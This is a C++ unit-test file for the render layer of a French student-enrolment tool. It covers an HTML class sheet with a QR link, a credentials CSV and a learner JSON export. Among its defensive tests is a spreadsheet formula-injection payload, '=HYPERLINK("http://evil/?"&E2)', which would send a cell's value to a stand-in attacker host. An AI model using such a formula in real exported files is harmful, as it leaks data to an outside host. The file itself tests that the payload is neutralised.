// The render layer alone: the class sheet, the credentials CSV and the learner export, from
// values built here (no database). The expected documents are the bytes the surfaces (C ABI,
// Python, CLI) have always given.
#include <gtest/gtest.h>

#include <string>

#include "inscrire/birthdate.hpp"
#include "inscrire/render.hpp"
#include "inscrire/service.hpp"
#include "qr_decoder.hpp"

namespace inscrire {
namespace {

bool contains(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

Campaign campaign(std::string code, std::string name, std::string division) {
  Campaign c;
  c.code = std::move(code);
  c.name = std::move(name);
  c.uai = "0751234A";
  c.division = std::move(division);
  return c;
}

// --- Class sheet ----------------------------------------------------------------------------

constexpr const char* kSheet = R"html(<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<title>Fiche élève &mdash; Pix &lt;5A&gt; &amp; co</title>
<style>
  body { font-family: sans-serif; max-width: 42em; margin: 2em auto; line-height: 1.5; }
  .code { font-size: 2.4em; font-weight: bold; letter-spacing: .15em; text-align: center;
          border: 3px solid #000; padding: .3em; margin: 1em 0; }
  li { margin-bottom: .6em; }
  .note { border-left: 4px solid #888; padding-left: 1em; color: #333; }
  @media print { body { margin: 0; } }
</style>
</head>
<body>
<h1>Créer mon compte élève</h1>
<p>Collège &lt;Victor&gt; &quot;Hugo&quot; &amp; l&#39;autre &mdash; classe 5A<br>Campagne : Pix &lt;5A&gt; &amp; co</p>
<p>Code de la campagne de ta classe :</p>
<div class="code">ABMWWC 545</div>
<ol>
  <li>Saisis le code de la campagne ci-dessus (majuscules, espaces et tirets n'ont pas d'importance).</li>
  <li>Renseigne ton prénom, ton nom et ta date de naissance (JJ/MM/AAAA), puis valide avec
      «&nbsp;Je m'inscris&nbsp;».</li>
  <li>Note bien ton identifiant, de la forme <strong>prénom.nomJJMM</strong>.</li>
  <li>Choisis un mot de passe d'au moins 8 caractères, avec une majuscule, une minuscule et un
      chiffre.</li>
  <li>La campagne démarre aussitôt. Tu peux la terminer plus tard en te reconnectant avec ton
      identifiant et ton mot de passe.</li>
</ol>
<p class="note">Mot de passe perdu ? N'importe quel administrateur de l'établissement peut le
réinitialiser. Aucune adresse e-mail n'est demandée.</p>
<p>Mon identifiant : ______________________________</p>
</body>
</html>
)html";

TEST(ClassSheetHtml, IsThePageTheSurfacesGive) {
  const ClassSheet sheet{
      "Collège <Victor> \"Hugo\" & l'autre", campaign("ABMWWC545", "Pix <5A> & co", "5A"), {}};
  EXPECT_EQ(class_sheet_html(sheet), kSheet);
}

TEST(ClassSheetHtml, EscapesEveryValue) {
  const auto html =
      class_sheet_html({"<b>École</b>", campaign("ABMWWC545", "\"A\" & 'B'", "<5A>"), {}});
  EXPECT_TRUE(contains(html, "<p>&lt;b&gt;École&lt;/b&gt; &mdash; classe &lt;5A&gt;<br>"));
  EXPECT_TRUE(contains(html, "<title>Fiche élève &mdash; &quot;A&quot; &amp; &#39;B&#39;</title>"));
  EXPECT_FALSE(contains(html, "<b>"));
}

TEST(ClassSheetHtml, SpacesTheCodeAndNamesTheDivisionOnlyWhenThereIsOne) {
  const auto school = class_sheet_html({"Collège", campaign("ABMWWC545", "Pix", ""), {}});
  EXPECT_TRUE(contains(school, "<div class=\"code\">ABMWWC 545</div>"));
  EXPECT_TRUE(contains(school, "<p>Collège<br>Campagne : Pix</p>"));
  EXPECT_FALSE(contains(school, "&mdash; classe"));
  // Not the length of a code: shown as it is.
  EXPECT_TRUE(contains(class_sheet_html({"Collège", campaign("ABC", "Pix", ""), {}}),
                       "<div class=\"code\">ABC</div>"));
}

// --- Direct link and QR code ----------------------------------------------------------------

TEST(ClassSheetHtml, CarriesTheDirectLinkAndAQrCodeThatDecodesToIt) {
  ClassSheet sheet{"Collège", campaign("ABMWWC545", "Pix", "5A"), std::nullopt};
  sheet.link = "https://inscrire.example.fr/c/ABMWWC545";
  const auto html = class_sheet_html(sheet);
  EXPECT_TRUE(contains(html,
                       "<a href=\"https://inscrire.example.fr/c/ABMWWC545\">"
                       "https://inscrire.example.fr/c/ABMWWC545</a>"));
  EXPECT_EQ(testing::decoded_qr_code(html), "https://inscrire.example.fr/c/ABMWWC545");
  // Still the seed's wording around it.
  EXPECT_TRUE(contains(html, "«&nbsp;Je m'inscris&nbsp;»"));
}

TEST(ClassSheetHtml, HasNoLinkNorQrCodeWithoutABaseUrl) {
  const auto html = class_sheet_html({"Collège", campaign("ABMWWC545", "Pix", "5A"), {}});
  EXPECT_FALSE(contains(html, "<svg"));
  EXPECT_FALSE(contains(html, "<a href"));
}

TEST(QrCodeSvg, DecodesToLongLinksAndEscapesItsLabel) {
  const std::string url =
      "https://ent.academie-exemple.fr/inscription/eleves/c/ABMWWC545?ref=fiche";
  const auto svg = qr_code_svg(url, "<lien> & \"code\"");
  EXPECT_EQ(testing::decoded_qr_code(svg), url);
  EXPECT_TRUE(contains(svg, "<title>&lt;lien&gt; &amp; &quot;code&quot;</title>"));
}

TEST(QrCodeSvg, RefusesTextBeyondWhatAQrCodeHolds) {
  try {
    qr_code_svg(std::string(5000, 'a'), "trop long");
    FAIL() << "no error";
  } catch (const Error& e) {
    EXPECT_EQ(e.code(), ErrorCode::INVALID_ARGUMENT);
  }
}

// --- CSV ------------------------------------------------------------------------------------

TEST(CsvCell, QuotesOnlyWhatNeedsIt) {
  EXPECT_EQ(csv_cell(""), "");
  EXPECT_EQ(csv_cell("Zoë Müller-Dupont, 5A"), "Zoë Müller-Dupont, 5A");
  EXPECT_EQ(csv_cell("a;b"), "\"a;b\"");
  EXPECT_EQ(csv_cell("Jean \"Jo\""), "\"Jean \"\"Jo\"\"\"");
  EXPECT_EQ(csv_cell("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(csv_cell("cr\r"), "\"cr\r\"");
}

TEST(CsvCell, NeutralisesEveryFormulaLead) {
  EXPECT_EQ(csv_cell("=1+1"), "'=1+1");
  EXPECT_EQ(csv_cell("+33 6"), "'+33 6");
  EXPECT_EQ(csv_cell("-2"), "'-2");
  EXPECT_EQ(csv_cell("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(csv_cell("\tx"), "'\tx");
  EXPECT_EQ(csv_cell("\rx"), "\"'\rx\"");
  EXPECT_EQ(csv_cell("=HYPERLINK(\"http://x/?\"&E2;\"clic\")"),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&E2;\"\"clic\"\")\"");
  // Only at the start: inside a name they are ordinary characters.
  EXPECT_EQ(csv_cell("Jean-Marc"), "Jean-Marc");
  EXPECT_EQ(csv_cell("a=b"), "a=b");
}

TEST(CredentialsCsv, NoRosterValueReachesTheSheetAsAFormula) {
  const Credentials credentials{
      {{"=5A", "@Martin", "+Léa", "lea.martin1205", "abcdef23"},
       {"-4B", "=HYPERLINK(\"http://evil/?\"&E2)", "Zoé", "zoe.x0101", "ghjkmn45"}}};
  const auto csv = credentials_csv(credentials);
  EXPECT_NE(csv.find("\r\n'=5A;'@Martin;'+Léa;lea.martin1205;abcdef23\r\n"), std::string::npos)
      << csv;
  EXPECT_NE(csv.find("\r\n'-4B;\"'=HYPERLINK("), std::string::npos) << csv;
}

TEST(CredentialsCsv, BomHeaderAndOneCrlfLinePerRow) {
  EXPECT_EQ(credentials_csv({}),
            "\xEF\xBB\xBF"
            "Classe;Nom;Prénom;Identifiant;Mot de passe\r\n");
  Credentials credentials;
  credentials.rows.push_back({"5A", "CŒURDACIER", "Œnone", "oenone.coeurdacier1407", "abcdef23"});
  credentials.rows.push_back(
      {"5A", "D'ARTAGNAN", "Jean;Marc", "jeanmarc.dartagnan0103", "xyzabc45"});
  EXPECT_EQ(credentials_csv(credentials),
            "\xEF\xBB\xBF"
            "Classe;Nom;Prénom;Identifiant;Mot de passe\r\n"
            "5A;CŒURDACIER;Œnone;oenone.coeurdacier1407;abcdef23\r\n"
            "5A;D'ARTAGNAN;\"Jean;Marc\";jeanmarc.dartagnan0103;xyzabc45\r\n");
}

TEST(CredentialsCsv, QuotesFieldsThatNeedIt) {
  Credentials credentials;
  credentials.rows.push_back({"5A", "Dupont;Durand", "Jean \"Jo\"", "jean.dupont0101", "abcdef23"});
  EXPECT_EQ(credentials_csv(credentials),
            "\xEF\xBB\xBF"
            "Classe;Nom;Prénom;Identifiant;Mot de passe\r\n"
            "5A;\"Dupont;Durand\";\"Jean \"\"Jo\"\"\";jean.dupont0101;abcdef23\r\n");
}

// --- Learner export -------------------------------------------------------------------------

LearnerExport allan() {
  LearnerExport exported;
  exported.school = {1, "0751234A", "Collège <Victor> \"Hugo\" & l'autre"};
  RosterEntry& e = exported.learner.entry;
  e.ine = "552340183SS";
  e.first_name = "Allan";
  e.last_name = "POE";
  e.birthdate = BirthDate::from_ymd(2014, 3, 1);
  e.sex = Sex::Male;
  e.division = "5A";
  e.birth_country_code = "100";
  e.birth_department_code = "075";
  e.birth_city_code = "75056";
  e.mef_code = "10010012110";
  e.status = "ST";
  exported.account = AccountState{"allan.poe0103", false, 0, false, false};
  exported.participations = {{campaign("ABMWWC545", "Pix <5A> & co", "5A"), "STARTED"},
                             {campaign("EJWYWM593", "Toute l'école", ""), "STARTED"}};
  return exported;
}

TEST(LearnerExportJson, IsTheDocumentTheSurfacesGive) {
  EXPECT_EQ(
      learner_export_json(allan()),
      "{\"school\": {\"uai\": \"0751234A\", \"name\": \"Collège <Victor> \\\"Hugo\\\" & l'autre\"}"
      ", \"learner\": {\"ine\": \"552340183SS\", \"first_name\": \"Allan\", \"second_name\": \"\""
      ", \"third_name\": \"\", \"last_name\": \"POE\", \"usage_name\": \"\""
      ", \"birthdate\": \"2014-03-01\", \"sex\": \"M\", \"division\": \"5A\""
      ", \"birth_country_code\": \"100\", \"birth_department_code\": \"075\""
      ", \"birth_city_code\": \"75056\", \"birth_city_name\": \"\", \"mef_code\": \"10010012110\""
      ", \"status\": \"ST\", \"disabled\": false}, \"account\": {\"username\": \"allan.poe0103\""
      ", \"must_change_password\": false, \"failed_attempts\": 0, \"blocked\": false"
      ", \"disabled\": false}, \"participations\": [{\"campaign\": {\"code\": \"ABMWWC545\""
      ", \"name\": \"Pix <5A> & co\", \"division\": \"5A\"}, \"status\": \"STARTED\"}"
      ", {\"campaign\": {\"code\": \"EJWYWM593\", \"name\": \"Toute l'école\", \"division\": \"\"}"
      ", \"status\": \"STARTED\"}]}");
}

TEST(LearnerExportJson, LeavesOutWhatIsNotThere) {
  auto exported = allan();
  exported.account.reset();
  exported.participations = {{std::nullopt, "STARTED"}};
  exported.learner.disabled = true;
  exported.learner.entry.sex = Sex::Female;
  const auto json = learner_export_json(exported);
  EXPECT_FALSE(contains(json, "\"account\"")) << json;
  EXPECT_TRUE(contains(json, "\"sex\": \"F\"")) << json;
  EXPECT_TRUE(
      json.ends_with("\"disabled\": true}, \"participations\": [{\"status\": \"STARTED\"}]}"))
      << json;
  exported.participations.clear();
  EXPECT_TRUE(learner_export_json(exported).ends_with("\"participations\": []}"));
}

TEST(LearnerExportJson, AccountStateButNeverAHash) {
  auto exported = allan();
  exported.account = AccountState{"allan.poe0103", true, 12, true, true};
  const auto json = learner_export_json(exported);
  EXPECT_TRUE(contains(json,
                       "\"account\": {\"username\": \"allan.poe0103\", "
                       "\"must_change_password\": true, \"failed_attempts\": 12, "
                       "\"blocked\": true, \"disabled\": true}"))
      << json;
  EXPECT_FALSE(contains(json, "hash")) << json;
}

}  // namespace
}  // namespace inscrire
